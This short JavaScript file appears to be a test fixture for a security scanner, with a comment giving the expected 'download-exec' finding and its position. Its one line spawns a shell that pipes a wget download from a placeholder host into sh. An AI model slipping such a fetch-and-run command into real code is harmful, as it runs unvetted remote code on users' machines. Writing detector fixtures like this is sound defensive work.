// expect: download-exec 4:21
const { spawn } = require('child_process');

spawn('sh', ['-c', 'wget -qO- https://example.com/x.sh | sh']);
